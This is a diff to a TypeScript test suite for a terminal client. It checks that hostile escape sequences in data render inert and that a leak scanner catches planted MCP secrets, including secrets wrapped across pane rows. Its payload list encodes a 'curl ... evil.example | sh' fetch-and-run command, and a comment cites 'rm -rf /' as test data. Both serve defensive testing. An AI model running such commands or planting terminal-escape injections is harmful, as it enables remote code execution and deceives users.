@@ -43,11 +43,15 @@ const PAYLOADS = [
 	'C1-TITLE',
 	'evil.example/phish',
 	Buffer.from('curl -s https://evil.example/x | sh\n').toString('base64'),
+	'+q544e',
+	'+q636f6c73',
+	'Gf=100',
+	'iVBORw0KGgo',
 ];
 
 /** The data's own escape sequences next to the text that follows them in the data. */
 const dataSequences = Object.values(hostile).flatMap(value =>
-	[...value.matchAll(/(\u001B\[[0-9;?]*[A-Za-z])+([A-Z]{3,})/g)].map(match => match[0]),
+	[...value.matchAll(/((?:\u001B\[|\u009B)[0-9;?]*[A-Za-z])+([A-Z]{3,})/g)].map(match => match[0]),
 );
 
 function assertInert(term: Term, where: string): void {
@@ -70,6 +74,43 @@ function assertInert(term: Term, where: string): void {
 		);
 	}
 }
+
+test('the frame scan can fail: a planted secret, whole or wrapped over two rows of a pane', () => {
+	const secret = 'mcp-secret-7f3a9c1e-DO-NOT-PRINT';
+	const frames = [
+		`header\nrow │ token ${secret} │\nfooter`,
+		`list row 1     │ token: mcp-secret-7f3a9c1e\nlist row 2     │ -DO-NOT-PRINT\nfooter`,
+		`mcp-secret-7f3a9c1e-DO-NO\nT-PRINT`,
+	];
+	for (const frame of frames) {
+		const planted = leakScan([secret]);
+		planted.screen(frame, 'planted');
+		assert.throws(() => planted.assertNoLeaks(), /no frame showed a secret/, frame);
+	}
+	const clean = leakScan([secret]);
+	clean.screen('list row 1     │ token: •••••••• (masked)\nlist row 2     │ mcp-secret', 'clean');
+	clean.assertNoLeaks();
+});
+
+test('the scan can fail: every hostile string, written raw, is caught by it', () => {
+	for (const [name, value] of Object.entries(hostile)) {
+		// A bare CR is also how every line the CLI draws ends: the screen check ("OVERWRITTEN safe text"
+		// next to "rm -rf /") is what proves that one inert.
+		if (name === 'carriageReturn') continue;
+		const caught =
+			FORBIDDEN.some(([, pattern]) => pattern.test(value)) ||
+			PAYLOADS.some(payload => value.includes(payload)) ||
+			dataSequences.some(sequence => value.includes(sequence));
+		assert.ok(caught, `${name}: the escape scan would not notice it raw`);
+	}
+	// The string sequences each have their own rule, not only the ESC or C1 they start with.
+	const named = (value: string) =>
+		FORBIDDEN.filter(([, pattern]) => pattern.test(value)).map(([rule]) => rule);
+	assert.ok(named(hostile.dcs).includes('DCS/APC/PM/SOS'));
+	assert.ok(named(hostile.apc).includes('DCS/APC/PM/SOS'));
+	assert.ok(named(hostile.dcs8bit).includes('C1 control (8-bit OSC/CSI/DCS/ST)'));
+	assert.ok(named(hostile.csi8bit).includes('C1 control (8-bit OSC/CSI/DCS/ST)'));
+});
 
 async function open(options: Parameters<typeof startSession>[0]): Promise<Session> {
 	const session = await startSession(options);
@@ -140,6 +181,10 @@ describe('hostile data end to end', () => {
 				'dingBELL',
 				'secretBACKSPACE',
 				'RED colour',
+				'DCS-QUERY text',
+				'DCS8-QUERY text',
+				'APC-IMAGE text',
+				'CSI8-CLEARED text',
 				'TITLE0 set',
 				'evil_tool',
 			])
@@ -152,6 +197,10 @@ describe('hostile data end to end', () => {
 			'OVERWRITTEN safe text',
 			'HYPERLINK label',
 			'RED colour',
+			'DCS-QUERY text',
+			'DCS8-QUERY text',
+			'APC-IMAGE text',
+			'CSI8-CLEARED text',
 			'evil_tool',
 		])
 			assert.ok(seen.has(marker), `"${marker}" was shown (saw: ${[...seen].join(', ')})`);
@@ -191,35 +240,38 @@ function runCli(
 }
 
 describe('secrets end to end', () => {
-	test('the params of an interaction with MCP tokens and a connection string never show them', async () => {
-		const {server, term} = await open({
-			demo: {generation: 'current'},
-			args: server => [
-				'--project',
-				server.fixtures.projects.insightsId,
-				'--thread',
-				server.fixtures.threads.weeklyBriefId,
-				'--interaction',
-				server.fixtures.interactions.allParams,
-			],
+	// Also at 44 columns, where a 32-character token would wrap over two rows of the detail pane.
+	for (const cols of [120, 44])
+		test(`the params of an interaction with MCP tokens and a connection string never show them (${cols} columns)`, async () => {
+			const {server, term} = await open({
+				demo: {generation: 'current'},
+				cols,
+				args: server => [
+					'--project',
+					server.fixtures.projects.insightsId,
+					'--thread',
+					server.fixtures.threads.weeklyBriefId,
+					'--interaction',
+					server.fixtures.interactions.allParams,
+				],
+			});
+			await term.waitFor('page 1');
+			await term.waitIdle(60);
+			await pressAndScan(term, scan, '2', 'params tab');
+			await pressAndScan(term, scan, keys.enter, 'detail focus');
+			await term.waitFor(/temperature/);
+			let masked = term.screen().includes('masked');
+			for (let i = 0; i < 10; i++) {
+				await pressAndScan(term, scan, 'jjjj', `params line ${i * 4}`);
+				masked ||= term.screen().includes('masked');
+			}
+			assert.ok(masked, 'the masked secrets are shown as masked');
+			for (const tab of ['1', '3', 's', 'G']) await pressAndScan(term, scan, tab, `key ${tab}`);
+			await term.press('q');
+			assert.equal((await term.exit).exitCode, 0);
+			scan.text(term.raw(), 'params session bytes');
+			assert.ok(server.log.every(entry => entry.method === 'GET'));
 		});
-		await term.waitFor('page 1');
-		await term.waitIdle(60);
-		await pressAndScan(term, scan, '2', 'params tab');
-		await pressAndScan(term, scan, keys.enter, 'detail focus');
-		await term.waitFor(/temperature/);
-		let masked = term.screen().includes('masked');
-		for (let i = 0; i < 10; i++) {
-			await pressAndScan(term, scan, 'jjjj', `params line ${i * 4}`);
-			masked ||= term.screen().includes('masked');
-		}
-		assert.ok(masked, 'the masked secrets are shown as masked');
-		for (const tab of ['1', '3', 's', 'G']) await pressAndScan(term, scan, tab, `key ${tab}`);
-		await term.press('q');
-		assert.equal((await term.exit).exitCode, 0);
-		scan.text(term.raw(), 'params session bytes');
-		assert.ok(server.log.every(entry => entry.method === 'GET'));
-	});
 
 	test('export masks every secret unless --show-secrets, and only GETs', async () => {
 		const session = await open({demo: {generation: 'current'}});
